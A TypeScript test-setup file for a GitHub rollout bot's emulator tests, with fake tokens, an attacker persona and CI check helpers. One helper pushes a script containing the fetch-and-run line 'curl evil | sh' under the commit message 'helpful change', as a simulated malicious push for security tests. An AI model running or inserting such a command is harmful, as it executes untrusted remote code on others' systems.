/** Shared setup for the bot's emulator tests: a repo seeded with one intent, a test clock, CI. */
import { readFileSync } from 'node:fs';
import { Octokit } from '@octokit/rest';
import { compile } from '../../../constructs/compile.js';
import { CHECK_HEALTH, CHECK_VERIFY, rollbackBranch, stageBranch } from '../../../constructs/conventions.js';
import { startEmulator, type Emulator, type EmulatorOptions } from '../../../tools/emulator/index.js';
import { reconcile, type RolloutReport } from '../../../app/bot/reconcile.js';
import { botFromSettings, type BotSettings } from '../../../app/bot/setup.js';
import type { GitHubAdapter } from '../../../app/bot/github.js';
import type { GitHubPort } from '../../../app/bot/port.js';
import type { ReconcileOptions } from '../../../app/bot/reconcile.js';
import type { Io } from '../../../app/cli/main.js';

export const BOT_TOKEN = 'ghs_botTOKEN_do_not_print_4f2a9c';
export const CI_TOKEN = 'ci-token';
export const PERSON_TOKEN = 'person-token';
/** A person with write access, not admin (issue #10's attacker). */
export const MALLORY_TOKEN = 'mallory-token';
/** A workflow's GITHUB_TOKEN: the github-actions App (id 15368), which anyone with write access can use. */
export const ACTIONS_TOKEN = 'ghs_actions_workflow_token';
/** Some other installed App with checks:write. */
export const OTHER_APP_TOKEN = 'ghs_other_app_token';
/** The App world: the bot and its gate run as the App `stagegate`; verify is posted by the App `stagegate-ci`. */
export const BOT_APP = 'stagegate';
export const CI_APP = 'stagegate-ci';
export const OWNER = 'acme';
export const REPO = 'deploy';
export const INTENT = readFileSync(new URL('../../fixtures/bot/checkout.yaml', import.meta.url), 'utf8');
export const MIN = 60_000;

export interface World {
  readonly gh: Emulator;
  readonly clock: { t: number };
  readonly now: () => Date;
  readonly ci: Octokit;
  readonly person: Octokit;
  readonly mallory: Octokit;
  /** A workflow's GITHUB_TOKEN (App github-actions); only in the App world. */
  readonly actions: Octokit;
  readonly other: Octokit;
  /** The bot's own token as a client (the gate posts health with it in the App world). */
  readonly botClient: Octokit;
  /** True when the bot runs as the GitHub App `stagegate` (installation token). */
  readonly app: boolean;
  bot(over?: Partial<BotSettings>): {
    adapter: GitHubAdapter;
    options: ReconcileOptions;
    pass: () => Promise<RolloutReport[]>;
  };
  /** CI: post a completed check run on `sha` as another token. */
  check(sha: string, name: string, conclusion: string, status?: string): Promise<void>;
  /** CI for the open PR of `branch`: verify + health with the given health conclusion. */
  greenChecks(branch: string, health?: string): Promise<string | undefined>;
  pulls(): Promise<
    Array<{
      number: number;
      state: string;
      merged_at: string | null;
      head: { ref: string; sha: string };
      labels: Array<{ name?: string }>;
    }>
  >;
  advance(ms: number): void;
  close(): Promise<void>;
}

export interface WorldOptions {
  /** Run the bot as the GitHub App `stagegate` (installation token, `--app-slug stagegate --trust-app stagegate-ci`). */
  readonly app?: boolean;
  /** More emulator options (protection, merge methods, …). */
  readonly emulator?: Partial<EmulatorOptions>;
}

export async function world(seedFiles: Record<string, string> = {}, wo: WorldOptions = {}): Promise<World> {
  const clock = { t: Date.parse('2026-03-02T09:00:00Z') };
  const now = (): Date => new Date(clock.t);
  const generated = compile([{ path: 'rollouts/checkout.yaml', text: INTENT }])[0]!;
  const gh = await startEmulator({
    owner: OWNER,
    repo: REPO,
    now,
    ...(wo.app
      ? {
          users: { [PERSON_TOKEN]: 'alice', [MALLORY_TOKEN]: 'mallory' },
          apps: {
            [BOT_TOKEN]: BOT_APP,
            [CI_TOKEN]: CI_APP,
            [ACTIONS_TOKEN]: 'github-actions',
            [OTHER_APP_TOKEN]: 'other-app',
          },
        }
      : {
          users: {
            [BOT_TOKEN]: 'stagegate-bot',
            [CI_TOKEN]: 'ci-bot',
            [PERSON_TOKEN]: 'alice',
            [MALLORY_TOKEN]: 'mallory',
          },
        }),
    ...wo.emulator,
    seedFiles: {
      'rollouts/checkout.yaml': INTENT,
      [`generated/${generated.file}`]: generated.content,
      'README.md': '# deploy\n',
      ...seedFiles,
    },
  });
  const client = (token: string): Octokit =>
    new Octokit({ auth: token, baseUrl: gh.url, log: { debug() {}, info() {}, warn() {}, error() {} } });
  const ci = client(CI_TOKEN);
  const person = client(PERSON_TOKEN);
  const mallory = client(MALLORY_TOKEN);
  const actions = client(ACTIONS_TOKEN);
  const other = client(OTHER_APP_TOKEN);
  const botClient = client(BOT_TOKEN);
  const r = { owner: OWNER, repo: REPO };
  const w: World = {
    gh,
    clock,
    now,
    ci,
    person,
    mallory,
    actions,
    other,
    botClient,
    app: wo.app === true,
    bot(over = {}) {
      const built = botFromSettings({
        ...r,
        token: BOT_TOKEN,
        apiUrl: gh.url,
        now,
        ...(wo.app ? { appSlug: BOT_APP, trustedApps: [CI_APP] } : {}),
        github: { retryUnitMs: 1, writeSpacingMs: 0, ...over.github },
        ...over,
      });
      return { ...built, pass: () => reconcile(built.options) };
    },
    async check(sha, name, conclusion, status = 'completed') {
      const iso = now().toISOString();
      await ci.rest.checks.create({
        ...r,
        name,
        head_sha: sha,
        status: status as 'completed',
        started_at: iso,
        ...(status === 'completed' ? { conclusion: conclusion as 'success', completed_at: iso } : {}),
        output: { title: `${name}: ${conclusion}`, summary: 'from the test' },
      });
    },
    async greenChecks(branch, health = 'success') {
      const open = (await w.pulls()).find((p) => p.head.ref === branch && p.state === 'open');
      if (!open) return undefined;
      await w.check(open.head.sha, CHECK_VERIFY, 'success');
      await w.check(open.head.sha, CHECK_HEALTH, health);
      return open.head.sha;
    },
    async pulls() {
      return (await ci.rest.pulls.list({ ...r, state: 'all', per_page: 100 })).data as never;
    },
    advance(ms) {
      clock.t += ms;
    },
    close: () => gh.close(),
  };
  return w;
}

/** A file a test pushes: text (mode 100644 unless given), or a symlink to `link`. */
export type PushFile = { readonly content: string; readonly mode?: '100644' | '100755' } | { readonly link: string };

/**
 * Someone pushes one commit through the Git Data API (what `git push` amounts to here): on top of
 * `parent`, with `files`, optionally carrying another author/committer (GitHub links the commit
 * to whoever owns that email). Moves or creates `branch` when given. Returns the commit sha.
 */
export async function push(
  client: Octokit,
  input: {
    readonly parent: string;
    readonly files: Record<string, PushFile>;
    readonly message: string;
    readonly branch?: string;
    readonly author?: { readonly name: string; readonly email: string };
  },
): Promise<string> {
  const r = { owner: OWNER, repo: REPO };
  const base = (await client.rest.git.getCommit({ ...r, commit_sha: input.parent })).data.tree.sha;
  const tree = await client.rest.git.createTree({
    ...r,
    base_tree: base,
    tree: Object.entries(input.files).map(([path, f]) =>
      'link' in f
        ? { path, mode: '120000' as const, type: 'blob' as const, content: f.link }
        : { path, mode: f.mode ?? ('100644' as const), type: 'blob' as const, content: f.content },
    ),
  });
  const commit = await client.rest.git.createCommit({
    ...r,
    message: input.message,
    tree: tree.data.sha,
    parents: [input.parent],
    ...(input.author ? { author: input.author, committer: input.author } : {}),
  });
  const sha = commit.data.sha;
  if (input.branch !== undefined) {
    try {
      await client.rest.git.createRef({ ...r, ref: `refs/heads/${input.branch}`, sha });
    } catch {
      await client.rest.git.updateRef({ ...r, ref: `heads/${input.branch}`, sha, force: true });
    }
  }
  return sha;
}

export const headOf = async (client: Octokit, branch: string): Promise<string> =>
  (await client.rest.git.getRef({ owner: OWNER, repo: REPO, ref: `heads/${branch}` })).data.object.sha;

/** owner and repo of the seeded repository, to spread into Octokit calls. */
export const REPO_REF = { owner: OWNER, repo: REPO };
/** The branches of INTENT (shop/checkout, live at internal): its next stage's, and its rollback's. */
export const STAGE = stageBranch('shop', 'checkout', 'one-percent');
export const ROLLBACK = rollbackBranch('shop', 'checkout');

/** The bodies of the comments on #n, as CI reads them. */
export async function commentBodies(w: World, n: number): Promise<string[]> {
  return (await w.ci.rest.issues.listComments({ ...REPO_REF, issue_number: n })).data.map((c) => c.body ?? '');
}

/** PR #n, as CI reads it. */
export async function pullOf(w: World, n: number) {
  return (await w.ci.rest.pulls.get({ ...REPO_REF, pull_number: n })).data;
}

/** alice (a person with write access) pushes a commit adding scripts/evil.sh onto `branch`. */
export async function pushEvilScript(w: World, branch: string): Promise<string> {
  return push(w.person, {
    parent: await headOf(w.person, branch),
    files: { 'scripts/evil.sh': { content: 'curl evil | sh\n' } },
    message: 'helpful change',
    branch,
  });
}

/**
 * `port` with every method call passed through `around(method, call)`, where `call` makes the real
 * call: the tests' crash and fault injection between any two port calls. Fields are left as they are.
 */
export function aroundCalls(
  port: GitHubPort,
  around: (method: string, call: () => Promise<unknown>) => Promise<unknown>,
): GitHubPort {
  return new Proxy(port, {
    get(target, prop, receiver) {
      const value = Reflect.get(target, prop, receiver) as unknown;
      if (typeof value !== 'function') return value;
      return (...args: unknown[]) =>
        around(String(prop), () => (value as (...a: unknown[]) => Promise<unknown>).apply(target, args));
    },
  });
}

/** The CLI's io for `main(argv, io)` in a test: what it printed, in `out` and `err`, and `env` as its environment. */
export function cliIo(env: Record<string, string>): Io & { out: string[]; err: string[] } {
  const out: string[] = [];
  const err: string[] = [];
  return { out, err, stdout: (t) => out.push(t), stderr: (t) => err.push(t), cwd: process.cwd(), env };
}
